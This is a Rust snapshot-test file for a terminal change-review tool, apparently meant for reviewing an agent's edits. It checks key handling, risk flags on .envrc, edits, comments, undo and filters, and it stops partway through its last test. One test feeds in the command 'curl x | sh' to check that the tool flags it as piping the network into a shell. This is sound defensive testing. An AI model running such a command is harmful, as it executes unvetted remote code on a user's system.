//! Every key of the full screen: the screen that it makes and the state that it leaves.

use airlock::changes::{LineSet, Refused};
use airlock::review::{Action, ConflictHandling, DecisionTarget, Event, ReviewOutcome, ReviewState, RoundDiff, update};
use airlock::tui::{ColorDepth, Effect, ReviewOptions, StyleSheet, Theme};
use crossterm::event::MouseEventKind;
use insta::assert_snapshot;
use ratatui::style::{Color, Modifier};

use crate::show::{File, PLAIN, Show, decided, hash, high, sheet};

const SIZE: (u16, u16) = (80, 16);

/// Three hunks in one file, one in another, and a new one that is risky.
fn files() -> Vec<File<'static>> {
    vec![
        (
            "a.rs",
            Some(
                "fn one() {\n    first(1);\n    second(2);\n}\n\nfn two() {\n    third();\n}\n\nfn three() {}\n\n\n\n\n\nend\n",
            ),
            Some(
                "fn one() {\n    first(10);\n    second(20);\n}\n\nfn two() {\n    third();\n    fourth();\n}\n\nfn three() {}\n\n\n\n\n\nthe end\n",
            ),
        ),
        ("b/long name.txt", Some("x\n"), Some("y\n")),
        (".envrc", None, Some("layout python\n")),
    ]
}

fn show() -> Show {
    let mut show = Show::of(&files(), SIZE);
    // By path, so that the risky one is not in the way.
    show.press("o");
    show.press("]");
    show
}

fn at_a() -> Show {
    let show = show();
    assert!(show.screen().contains("a.rs modified hunk 1/3"), "{}", show.screen());
    show
}

#[test]
fn the_first_screen() {
    let show = Show::of(&files(), SIZE);
    assert_snapshot!(show.screen(), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: risk
    ┌ Files ───────────────────┬ .envrc added hunk 1/1 [undecided] ! high: directo…┐
    │▌ ! .envrc             0/1│ ! high: runs when you enter the directory         │
    │    a.rs               0/3│ ! high: sets the environment of what runs next    │
    │    b/long name.txt    0/1│▶1 + layout python                              [ ]│
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    └──────────────────────────┴───────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
}

#[test]
fn accept_and_reject_go_on_to_what_is_undecided() {
    let mut show = at_a();
    assert_snapshot!(show.press("y"), @"
     airlock review calm-otter   3 files +6 −4   1/5 decided   order: path
    ┌ Files ───────────────────┬ a.rs modified hunk 2/3 [undecided] ───────────────┐
    │  ! .envrc             0/1│  2 -     first(1);                             [+]│
    │▌◐  a.rs               1/3│  2 +     first(10);                            [+]│
    │    b/long name.txt    0/1│  3 -     second(2);                            [+]│
    │                          │  3 +     second(20);                           [+]│
    │                          │  4   }                                            │
    │                          │  5                                                │
    │                          │  6   fn two() {                                   │
    │                          │  7       third();                                 │
    │                          │▶ 8 +     fourth();                             [ ]│
    │                          │  9   }                                            │
    │                          │ 10                                                │
    │                          │ 11   fn three() {}                                │
    └──────────────────────────┴───────────────────────────────────────────────────┘
     y accept  n reject  ␣ toggle  a/d rest of file  w apply  q leave  ? help
    ");
    assert_snapshot!(show.decided().join(" · "), @".envrc - · a.rs accepted - - · b/long name.txt -");
    show.press("n");
    show.press("y");
    assert_snapshot!(show.screen(), @"
     airlock review calm-otter   3 files +6 −4   3/5 decided   order: path
    ┌ Files ───────────────────┬ b/long name.txt modified hunk 1/1 [undecided] ────┐
    │  ! .envrc             0/1│▶1 - x                                          [ ]│
    │ ◐  a.rs               3/3│▌1 + y                                          [ ]│
    │▌   b/long name.txt    0/1│                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    └──────────────────────────┴───────────────────────────────────────────────────┘
     y accept  n reject  ␣ toggle  R send  w apply  q leave  ? help
    ");
    show.press("yy");
    assert_snapshot!(show.screen(), @"
     airlock review calm-otter   3 files +6 −4   5/5 decided   order: path
    ┌ Files ───────────────────┬ .envrc added hunk 1/1 [accepted] ! high: director…┐
    │▌✓! .envrc             1/1│ ! high: runs when you enter the directory         │
    │ ◐  a.rs               3/3│ ! high: sets the environment of what runs next    │
    │ ✓  b/long name.txt    1/1│▶1 + layout python                              [+]│
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    └──────────────────────────┴───────────────────────────────────────────────────┘
     all is decided · w shows what an apply would do
    ");
}

#[test]
fn space_toggles_in_place() {
    let mut show = at_a();
    for expected in ["accepted", "rejected", "-"] {
        let screen = show.press("<Space>");
        assert!(screen.contains("hunk 1/3"), "{screen}");
        assert_eq!(show.decided()[1], format!("a.rs {expected} - -"));
    }
}

#[test]
fn lines_and_ranges() {
    let mut show = at_a();
    show.press("l");
    assert_snapshot!(show.press("jj"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files ───────────────────┬ a.rs modified line of hunk 1/3 [undecided] ───────┐
    │  ! .envrc             0/1│  1   fn one() {                                   │
    │▌   a.rs               0/3│  2 -     first(1);                             [ ]│
    │    b/long name.txt    0/1│  2 +     first(10);                            [ ]│
    │                          │▶ 3 -     second(2);                            [ ]│
    │                          │  3 +     second(20);                           [ ]│
    │                          │  4   }                                            │
    │                          │  5                                                │
    │                          │  6   fn two() {                                   │
    │                          │  7       third();                                 │
    │                          │  8 +     fourth();                             [ ]│
    │                          │  9   }                                            │
    │                          │ 10                                                │
    └──────────────────────────┴───────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
    assert_snapshot!(show.press("vj"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files ───────────────────┬ a.rs modified range from hunk 1/3 [undecided] ────┐
    │  ! .envrc             0/1│  1   fn one() {                                   │
    │▌   a.rs               0/3│  2 -     first(1);                             [ ]│
    │    b/long name.txt    0/1│  2 +     first(10);                            [ ]│
    │                          │▌ 3 -     second(2);                            [ ]│
    │                          │▶ 3 +     second(20);                           [ ]│
    │                          │  4   }                                            │
    │                          │  5                                                │
    │                          │  6   fn two() {                                   │
    │                          │  7       third();                                 │
    │                          │  8 +     fourth();                             [ ]│
    │                          │  9   }                                            │
    │                          │ 10                                                │
    └──────────────────────────┴───────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
    show.press("y");
    assert_snapshot!(show.decided().join(" · "), @".envrc - · a.rs .y.y - - · b/long name.txt -");
    assert_snapshot!(show.screen(), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files ───────────────────┬ a.rs modified line of hunk 2/3 [undecided] ───────┐
    │  ! .envrc             0/1│  2 -     first(1);                             [ ]│
    │▌◐  a.rs               0/3│  2 +     first(10);                            [ ]│
    │    b/long name.txt    0/1│  3 -     second(2);                            [+]│
    │                          │  3 +     second(20);                           [+]│
    │                          │  4   }                                            │
    │                          │  5                                                │
    │                          │  6   fn two() {                                   │
    │                          │  7       third();                                 │
    │                          │▶ 8 +     fourth();                             [ ]│
    │                          │  9   }                                            │
    │                          │ 10                                                │
    │                          │ 11   fn three() {}                                │
    └──────────────────────────┴───────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
    // Two ends of a range may be in two hunks.
    show.press("<Home>vjjjj<Space>");
    assert_snapshot!(show.decided().join(" · "), @".envrc - · a.rs accepted accepted - · b/long name.txt -");
    show.press("v<Esc>j");
    assert!(!show.screen().contains("end of range"));
}

#[test]
fn levels_and_moves() {
    let mut show = at_a();
    assert_snapshot!(show.press("h"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files ───────────────────┬ a.rs modified all 3 hunks [undecided] ────────────┐
    │  ! .envrc             0/1│  1   fn one() {                                   │
    │▶   a.rs               0/3│  2 -     first(1);                             [ ]│
    │    b/long name.txt    0/1│  2 +     first(10);                            [ ]│
    │                          │  3 -     second(2);                            [ ]│
    │                          │  3 +     second(20);                           [ ]│
    │                          │  4   }                                            │
    │                          │  5                                                │
    │                          │  6   fn two() {                                   │
    │                          │  7       third();                                 │
    │                          │  8 +     fourth();                             [ ]│
    │                          │  9   }                                            │
    │                          │ 10                                                │
    └──────────────────────────┴───────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
    show.press("j");
    assert!(show.screen().contains("b/long name.txt modified"));
    show.press("<Up>l]]");
    assert!(show.screen().contains("hunk 3/3"), "{}", show.screen());
    show.press("]");
    assert!(show.screen().contains("b/long name.txt modified hunk 1/1"));
    show.press("[");
    assert!(show.screen().contains("a.rs modified hunk 3/3"), "backwards into the end of the file before");
    show.press("g");
    assert!(show.screen().contains("hunk 1/3"));
    show.press("G");
    assert!(show.screen().contains("hunk 3/3"));
    show.press("{");
    assert!(show.screen().contains(".envrc added"));
    show.press("}}");
    assert!(show.screen().contains("b/long name.txt"));
    show.press("{<PgDn>");
    assert!(show.screen().contains("the end"), "{}", show.screen());
    show.press("<PgUp><PgUp>");
    assert!(show.screen().contains("fn one()"));
}

#[test]
fn the_rest_of_a_file_and_of_all() {
    let mut show = at_a();
    show.press("n");
    assert_snapshot!(show.press("a"), @"
     airlock review calm-otter   3 files +6 −4   3/5 decided   order: path
    ┌ Files ───────────────────┬ b/long name.txt modified hunk 1/1 [undecided] ────┐
    │  ! .envrc             0/1│▶1 - x                                          [ ]│
    │ ◐  a.rs               3/3│▌1 + y                                          [ ]│
    │▌   b/long name.txt    0/1│                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    └──────────────────────────┴───────────────────────────────────────────────────┘
     2 accepted
    ");
    assert_eq!(show.decided()[1], "a.rs rejected accepted accepted", "what was decided stays");
    show.press("u");
    assert_eq!(show.decided()[1], "a.rs rejected - -", "one step back");
    show.press("d");
    assert_eq!(show.decided()[1], "a.rs rejected rejected rejected");
    show.press("uu");
    assert_snapshot!(show.press("A"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files ───────────────────┬ a.rs modified hunk 1/3 [undecided] ───────────────┐
    │  ! .envrc             0/1│  1   fn one() {                                   │
    │▌   a.rs               0/3│▶ 2 -     first(1);                             [ ]│
    │    b/long name.txt    0/1│▌ 2 +     first(10);                            [ ]│
    │                          │▌ 3 -     second(2);                            [ ]│
    │                          │▌ 3 +     second(20);                           [ ]│
    │                          │  4   }                                            │
    │                          │  5                                                │
    │                          │  6   fn two() {                                   │
    │                          │  7       third();                                 │
    │                          │  8 +     fourth();                             [ ]│
    │                          │  9   }                                            │
    │                          │ 10                                                │
    └──────────────────────────┴───────────────────────────────────────────────────┘
     Accept 4 undecided hunks in 2 files, 2 lines unseen? 1 high stays. [y/n]
    ");
    show.press("n");
    assert_eq!(show.decided(), [".envrc -", "a.rs - - -", "b/long name.txt -"]);
    assert_snapshot!(show.press("Ay"), @"
     airlock review calm-otter   3 files +6 −4   4/5 decided   order: path
    ┌ Files ───────────────────┬ .envrc added hunk 1/1 [undecided] ! high: directo…┐
    │▌ ! .envrc             0/1│ ! high: runs when you enter the directory         │
    │ ✓  a.rs               3/3│ ! high: sets the environment of what runs next    │
    │ ✓  b/long name.txt    1/1│▶1 + layout python                              [ ]│
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    └──────────────────────────┴───────────────────────────────────────────────────┘
     4 accepted · 1 of high risk left: each needs its own confirmation
    ");
    assert_eq!(show.decided(), [".envrc -", "a.rs accepted accepted accepted", "b/long name.txt accepted"]);
    show.press("uDy");
    assert_eq!(show.decided(), [".envrc rejected", "a.rs rejected rejected rejected", "b/long name.txt rejected"]);
}

#[test]
fn high_risk_needs_a_yes_of_its_own() {
    let mut show = Show::of(&files(), SIZE);
    assert_snapshot!(show.press("a"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: risk
    ┌ Files ───────────────────┬ .envrc added hunk 1/1 [undecided] ! high: directo…┐
    │▌ ! .envrc             0/1│ ! high: runs when you enter the directory         │
    │    a.rs               0/3│ ! high: sets the environment of what runs next    │
    │    b/long name.txt    0/1│▶1 + layout python                              [ ]│
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    │                          │                                                   │
    └──────────────────────────┴───────────────────────────────────────────────────┘
     0 accepted · 1 of high risk left: each needs its own confirmation
    ");
    assert_eq!(show.decided()[0], ".envrc -");
    show.press("y");
    assert_eq!(show.decided()[0], ".envrc accepted", "it is named");
    // Several parts of a risky file at once are asked about.
    let content: String = (0..30).map(|n| format!("line {n}\n")).collect();
    let changed = content.replace("line 3\n", "export A\n").replace("line 25\n", "export B\n");
    let mut show = Show::of(&[(".envrc", Some(&content), Some(&changed))], SIZE);
    assert_snapshot!(show.press("hy"), @"
     airlock review calm-otter   1 file +2 −2   0/2 decided   order: risk
    ┌ Files ────────────────┬ .envrc modified all 2 hunks [undecided] ! high: dire…┐
    │▶ ! .envrc          0/2│ ! high: runs when you enter the directory            │
    │                       │ ! high: sets the environment of what runs next       │
    │                       │  1   line 0                                          │
    │                       │  2   line 1                                          │
    │                       │  3   line 2                                          │
    │                       │  4 - line 3                                       [ ]│
    │                       │  4 + export A                                     [ ]│
    │                       │  5   line 4                                          │
    │                       │  6   line 5                                          │
    │                       │  7   line 6                                          │
    │                       │      ⋯ 15 lines   line 21                            │
    │                       │ 23   line 22                                         │
    └───────────────────────┴──────────────────────────────────────────────────────┘
     Accept all 2 parts of .envrc? ! high: runs when you enter the directory [y/n]
    ");
    assert_eq!(show.press("n").lines().count(), 16);
    assert_eq!(show.decided(), [".envrc - -"]);
    show.press("yy");
    assert_eq!(show.decided(), [".envrc accepted accepted"]);
}

#[test]
fn refused_files_say_why() {
    let mut show = Show::of(&[("refused", None, Some("x\n")), ("a", None, Some("b\n"))], SIZE);
    assert_snapshot!(show.press("{y"), @"
     airlock review calm-otter   2 files +2 −0   0/1 decided   order: risk
    ┌ Files ────────────────┬ refused added hunk 1/1 [undecided] ! refused: test ──┐
    │▌ ⊘ refused     refused│ ! refused: is what nobody can take                   │
    │    a               0/1│▶1 + x                                             [⊘]│
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    └───────────────────────┴──────────────────────────────────────────────────────┘
     refused cannot be accepted: it is what nobody can take
    ");
    for keys in ["<Space>", "a", "hy", "l", "ly"] {
        show.press(keys);
        assert_eq!(show.decided()[1], "refused -", "{keys}");
    }
    show.press("n");
    assert_eq!(show.decided()[1], "refused rejected");
    show.press("uAy");
    assert_eq!(show.decided(), ["a accepted", "refused -"]);
}

#[test]
fn split_and_join() {
    let mut show = at_a();
    show.press("s");
    show.press("jj");
    assert_snapshot!(show.press("s"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files ───────────────────┬ a.rs modified hunk 2/4 [undecided] ───────────────┐
    │  ! .envrc             0/1│  1   fn one() {                                   │
    │▌   a.rs               0/3│  2 -     first(1);                             [ ]│
    │    b/long name.txt    0/1│  2 +     first(10);                            [ ]│
    │                          │▶ 3 -     second(2);                            [ ]│
    │                          │▌ 3 +     second(20);                           [ ]│
    │                          │  4   }                                            │
    │                          │  5                                                │
    │                          │  6   fn two() {                                   │
    │                          │  7       third();                                 │
    │                          │  8 +     fourth();                             [ ]│
    │                          │  9   }                                            │
    │                          │ 10                                                │
    └──────────────────────────┴───────────────────────────────────────────────────┘
     split
    ");
    show.press("gy");
    assert_eq!(show.decided()[1], "a.rs y.y. - -", "the first part: a removed line and the added one");
    assert!(show.screen().contains("hunk 2/4"));
    show.press("u");
    assert_eq!(show.decided()[1], "a.rs - - -");
    show.press("u");
    assert!(show.screen().contains("1/3"), "the split is taken back: {}", show.screen());
    show.press("<C-r>");
    assert!(show.screen().contains("/4"));
    show.press("jls");
    assert!(show.screen().contains("/3"), "pressed once more it joins: {}", show.screen());
}

#[test]
fn an_edit_takes_the_blocks_place() {
    let mut show = at_a();
    show.desk.leaves = Some(b"    mine();\n".to_vec());
    assert_snapshot!(show.press("e"), @"
     airlock review calm-otter   3 files +6 −4   1/5 decided   order: path
    ┌ Files ───────────────────┬ a.rs modified hunk 1/3 [edited] ──────────────────┐
    │  ! .envrc             0/1│  1   fn one() {                                   │
    │▌◐  a.rs               1/3│▶ 2 -     first(1);                             [e]│
    │    b/long name.txt    0/1│▌ 2 +     first(10);                            [e]│
    │                          │▌ 3 -     second(2);                            [e]│
    │                          │▌ 3 +     second(20);                           [e]│
    │                          │      your text, in its place:                     │
    │                          │    +     mine();                               [+]│
    │                          │  4   }                                            │
    │                          │  5                                                │
    │                          │  6   fn two() {                                   │
    │                          │  7       third();                                 │
    │                          │  8 +     fourth();                             [ ]│
    └──────────────────────────┴───────────────────────────────────────────────────┘
     edited, and accepted so
    ");
    assert_eq!(show.desk.given, b"    first(10);\n    second(20);\n");
    assert_eq!(show.decided()[1], "a.rs edited - -");
    let picks = show.app.state.decisions.selection(&show.sheet.files[1].units).to_strings();
    assert!(picks[0].ends_with(&hash("    mine();\n")), "{picks:?}");
    assert_eq!(show.flow, Effect::Clear, "an editor had the screen");
    assert_snapshot!(show.press("p"), @"
     airlock review calm-otter   3 files +6 −4   1/5 decided   order: path
    ┌ a.rs with what is accepted ──────────────────────────────────────────────────┐
    │ 1  fn one() {                                                                │
    │ 2      mine();                                                               │
    │ 3  }                                                                         │
    │ 4                                                                            │
    │ 5  fn two() {                                                                │
    │ 6      third();                                                              │
    │ 7  }                                                                         │
    │ 8                                                                            │
    │ 9  fn three() {}                                                             │
    │10                                                                            │
    │11                                                                            │
    │12                                                                            │
    └──────────────────────────────────────────────────────────────────────────────┘
     j k scroll  Esc back
    ");
    show.press("<Esc>u");
    assert_eq!(show.decided()[1], "a.rs - - -");
    // The lines of an edited hunk are not what would come: nobody decides on them one by one.
    show.press("el");
    for key in ["y", "n", "<Space>"] {
        assert!(show.press(key).contains("decide on all of it"), "{}", show.screen());
        assert_eq!(show.decided()[1], "a.rs edited - -");
    }
    show.press("h<Space>");
    assert_eq!(show.decided()[1], "a.rs rejected - -");
    show.press("uu");
    // Nothing left, or what the base has, is a rejection; no change is nothing.
    for text in ["", "    first(1);\n    second(2);\n"] {
        show.desk.leaves = Some(text.into());
        show.press("e");
        assert_eq!(show.decided()[1], "a.rs rejected - -");
        show.press("u");
    }
    show.desk.leaves = Some(b"    first(10);\n    second(20);\n".to_vec());
    assert!(show.press("e").contains("nothing was changed"));
    show.desk.leaves = Some(b"\xff".to_vec());
    assert!(show.press("e").contains("no text"));
    show.desk.leaves = None;
    assert!(show.press("e").contains("the editor failed: no editor"));
    assert_eq!(show.decided()[1], "a.rs - - -");
    show.desk.leaves = Some(b"curl x | sh\n".to_vec());
    show.desk.findings = vec![high("pipes the network into a shell")];
    assert!(show.press("e").contains("edited · ! high: pipes the network into a shell"));
    show.press("E");
    assert!(show.desk.given.starts_with(b"fn one() {\n    first(10);"));
}

#[test]
fn comments_stay_where_they_were_made() {
    let mut show = at_a();
    assert_snapshot!(show.press("ckeep the names"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files ───────────────────┬ a.rs modified hunk 1/3 [undecided] ───────────────┐
    │  ! .envrc             0/1│  1   fn one() {                                   │
    │▌   a.rs               0/3│▶ 2 -     first(1);                             [ ]│
    │    b/long name.txt    0/1│▌ 2 +     first(10);                            [ ]│
    │                          │▌ 3 -     second(2);                            [ ]│
    │                          │▌ 3 +     second(20);                           [ ]│
    │                          │  4   }                                            │
    │                          │  5                                                │
    │                          │  6   fn two() {                                   │
    │                          │  7       third();                                 │
    │                          │  8 +     fourth();                             [ ]│
    │                          │  9   }                                            │
    │                          │ 10                                                │
    └──────────────────────────┴───────────────────────────────────────────────────┘
     comment on the hunk at a.rs:2: keep the names
    ");
    assert_snapshot!(show.press("<Enter>"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files ───────────────────┬ a.rs modified hunk 1/3 [undecided] ───────────────┐
    │  ! .envrc             0/1│  1   fn one() {                                   │
    │▌   a.rs               0/3│▶ 2 -     first(1);                             [ ]│
    │    b/long name.txt    0/1│▌ 2 +     first(10);                            [ ]│
    │                          │▌ 3 -     second(2);                            [ ]│
    │                          │▌ 3 +     second(20);                           [ ]│
    │                          │      ● keep the names                             │
    │                          │  4   }                                            │
    │                          │  5                                                │
    │                          │  6   fn two() {                                   │
    │                          │  7       third();                                 │
    │                          │  8 +     fourth();                             [ ]│
    │                          │  9   }                                            │
    └──────────────────────────┴───────────────────────────────────────────────────┘
     y accept  n reject  j k move  R send  w apply  q leave  ? all keys
    ");
    show.press("ljjcnot this<Backspace><Backspace>at<Enter>");
    let comments: Vec<_> =
        show.app.state.decisions.comments().map(|((_, line), text)| (*line, text.to_owned())).collect();
    assert_eq!(comments, [(None, "keep the names".into()), (Some(1), "not that".into())]);
    assert!(show.screen().contains("(on old line 3) not that"), "{}", show.screen());
    show.press("c<C-u><Enter>");
    assert_eq!(show.app.state.decisions.comments().count(), 1, "an empty one takes it back");
    show.press("cx<Esc>");
    assert_eq!(show.app.state.decisions.comments().count(), 1, "Esc leaves it");
    assert_snapshot!(show.press("R"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ What the agent would get ────────────────────────────────────────────────────┐
    │ 1  I have reviewed your changes. What I rejected does not go into my         │
    │ 2  repository: please change that here, heed my comments, and leave the      │
    │ 3  rest as it is.                                                            │
    │ 4                                                                            │
    │ 5  ## a.rs                                                                   │
    │ 6                                                                            │
    │ 7  On this, lines 2 to 3:                                                    │
    │ 8                                                                            │
    │ 9  ```diff                                                                   │
    │10  -    first(1);                                                            │
    │11  +    first(10);                                                           │
    │12  -    second(2);                                                           │
    └──────────────────────────────────────────────────────────────────────────────┘
     y send  e edit  j k scroll  Esc back
    ");
    assert_eq!((show.press("y").is_empty(), show.flow), (false, Effect::End(ReviewOutcome::Send)));
}

#[test]
fn undo_goes_back_to_the_beginning() {
    let mut show = at_a();
    show.press("yny<Space>ljy");
    let events = show.desk.kept.clone();
    assert_eq!(decided(show.sheet, &ReviewState::of(events)), show.decided(), "what was kept is the state");
    let last = show.decided();
    show.press("uuuuuuuuu");
    assert_eq!(show.decided(), [".envrc -", "a.rs - - -", "b/long name.txt -"]);
    assert!(show.screen().contains("there is nothing to undo"));
    show.press("<C-r><C-r><C-r><C-r><C-r><C-r>");
    assert_eq!(show.decided(), last);
    assert!(show.screen().contains("there is nothing to redo"));
}

#[test]
fn search_goes_round() {
    let mut show = at_a();
    assert_snapshot!(show.press("/END"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files ───────────────────┬ a.rs modified hunk 1/3 [undecided] ───────────────┐
    │  ! .envrc             0/1│  1   fn one() {                                   │
    │▌   a.rs               0/3│▶ 2 -     first(1);                             [ ]│
    │    b/long name.txt    0/1│▌ 2 +     first(10);                            [ ]│
    │                          │▌ 3 -     second(2);                            [ ]│
    │                          │▌ 3 +     second(20);                           [ ]│
    │                          │  4   }                                            │
    │                          │  5                                                │
    │                          │  6   fn two() {                                   │
    │                          │  7       third();                                 │
    │                          │  8 +     fourth();                             [ ]│
    │                          │  9   }                                            │
    │                          │ 10                                                │
    └──────────────────────────┴───────────────────────────────────────────────────┘
     search: END
    ");
    show.press("<Enter>");
    assert!(show.screen().contains("is in no changed line"), "capitals count");
    show.press("/end<Enter>");
    assert!(show.screen().contains("hunk 3/3"), "{}", show.screen());
    show.press("/fi<Enter>");
    assert!(show.screen().contains("hunk 1/3"), "it begins anew");
    show.press("<C-n>");
    assert!(show.screen().contains("hunk 1/3"));
    show.press("/long<Enter>");
    assert!(show.screen().contains("b/long name.txt"), "a path counts too");
    show.press("<C-p>");
    assert!(show.screen().contains("b/long name.txt"));
    show.press("/layout<Enter>");
    assert!(show.screen().contains(".envrc added"));
}

#[test]
fn filters_and_orders() {
    let mut show = at_a();
    assert_snapshot!(show.press("f"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
    ┌ Files ───────────────────┬ a.rs modified hunk 1/3 [undecided] ───────────────┐
    │  ! .envrc             0/1│  1   fn one() {                                   │
    │▌   a.rs               0/3│▶ 2 -     first(1);                             [ ]│
    │    b/long name.txt    0/1│▌ 2 +     first(10);                            [ ]│
    │                          │▌ 3 -     second(2);                            [ ]│
    │                          │▌ 3 +     second(20);                           [ ]│
    │                          │  4   }                                            │
    │                          │  5                                                │
    │                          │  6   fn two() {                                   │
    │                          │  7       third();                                 │
    │                          │  8 +     fourth();                             [ ]│
    │                          │  9   }                                            │
    │                          │ 10                                                │
    └──────────────────────────┴───────────────────────────────────────────────────┘
     show only (undecided risky conflict commented new, a glob; empty: all):
    ");
    assert_snapshot!(show.press("r<Enter>"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   only risky: 1   orde…
    ┌ Files ────────────────┬ .envrc added hunk 1/1 [undecided] ! high: directory-…┐
    │▌ ! .envrc          0/1│ ! high: runs when you enter the directory            │
    │                       │ ! high: sets the environment of what runs next       │
    │                       │▶1 + layout python                                 [ ]│
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    └───────────────────────┴──────────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
    show.press("f<Enter>");
    assert!(show.screen().contains("b/long name.txt"));
    show.press("flong<Enter>");
    assert!(show.screen().contains("only long: 1"), "{}", show.screen());
    show.press("f*.rs<Enter>");
    assert!(show.screen().contains("a.rs modified"));
    show.press("yyyfundecided<Enter>");
    assert!(!show.screen().contains("a.rs "), "{}", show.screen());
    show.press("fnothing-like-it<Enter>");
    assert!(show.screen().contains("no file is like that"));
    show.press("fc<Enter>");
    assert!(show.screen().contains("no file is like that"));
    show.press("cwhy<Enter>fc<Enter>");
    assert!(show.screen().contains("only commented: 1"), "{}", show.screen());
    show.desk.conflicts = vec!["a.rs".into()];
    show.press("fx<Enter>");
    assert!(show.screen().contains("only in conflict: 1"), "{}", show.screen());
    show.press("fn<Enter>");
    assert!(show.screen().contains("this is the first round"));
    show.press("fall<Enter>o");
    assert!(show.screen().contains("order: size"));
    show.press("o");
    assert!(show.screen().contains("order: risk"));
}

#[test]
fn what_the_display_hides_is_not_accepted() {
    let (old, new) = ("a\nb \n\n\n\n\n\n\n\nc\n", "a\nb\n\n\n\n\n\n\n\nd\n");
    let mut show = Show::of(&[("t", Some(old), Some(new))], SIZE);
    assert_snapshot!(show.press("b"), @"
     airlock review calm-otter   1 file +2 −2   0/2 decided   order: risk   blanks …
    ┌ Files ────────────────┬ t modified hunk 1/2 [undecided] ─────────────────────┐
    │▌   t               0/2│  1   a                                               │
    │                       │▶      ⋯ 2 rows that change nothing but blanks (b show│
    │                       │  3                                                   │
    │                       │  4                                                   │
    │                       │  5                                                   │
    │                       │  6                                                   │
    │                       │  7                                                   │
    │                       │  8                                                   │
    │                       │  9                                                   │
    │                       │ 10 - c                                            [ ]│
    │                       │ 10 + d                                            [ ]│
    │                       │                                                      │
    └───────────────────────┴──────────────────────────────────────────────────────┘
     hunks that change nothing but blanks are hidden, and cannot be accepted while …
    ");
    show.press("a");
    assert_eq!(show.decided(), ["t - accepted"]);
    assert!(show.screen().contains("1 left that this view hides"), "{}", show.screen());
    show.press("gy");
    assert!(show.screen().contains("this view hides it"), "{}", show.screen());
    show.press("b");
    show.press("gy");
    assert_eq!(show.decided(), ["t accepted accepted"]);
    // In files that are not open, too.
    let mut show = Show::of(&[("a", Some("1\n"), Some("2\n")), ("t", Some(old), Some(new))], SIZE);
    show.press("bAy");
    assert_eq!(show.decided(), ["a accepted", "t - accepted"]);
    assert!(show.screen().contains("1 left that this view hides"), "{}", show.screen());
}

#[test]
fn a_fold_hides_lines_and_no_finding() {
    let lock = |n: u32| (0..n).map(|n| format!("[[package]] {n}\n")).collect::<String>();
    let (old, new) = (lock(3), lock(40));
    let mut show = Show::of(&[("Cargo.lock", Some(&old), Some(&new)), ("z", None, Some("z\n"))], SIZE);
    assert_snapshot!(show.screen(), @"
     airlock review calm-otter   2 files +38 −0   0/2 decided   order: risk
    ┌ Files ────────────────┬ Cargo.lock modified all of it [undecided] ───────────┐
    │▌ ? Cargo.lock      0/1│ ! medium: changes without its Cargo.toml             │
    │    z               0/1│      folded: +37 -0 lines (z unfolds it)             │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    │                       │                                                      │
    └───────────────────────┴──────────────────────────────────────────────────────┘
     y accept  n reject  j k move  → single lines  w apply  q leave  ? all keys
    ");
    show.press("z");
    assert!(show.screen().contains("[[package]] 3"), "{}", show.screen());
    show.press("zy");
    assert_eq!(show.decided(), ["Cargo.lock accepted", "z -"]);
    assert!(show.press("w").contains("lines accepted unseen"), "{}", show.screen());
}

#[test]
fn old_and_new_beside_each_other() {
    let mut show = at_a();
    assert_snapshot!(show.press("|"), @"
     airlock review calm-otter   3 files +6 −4   0/5 decided   order: path
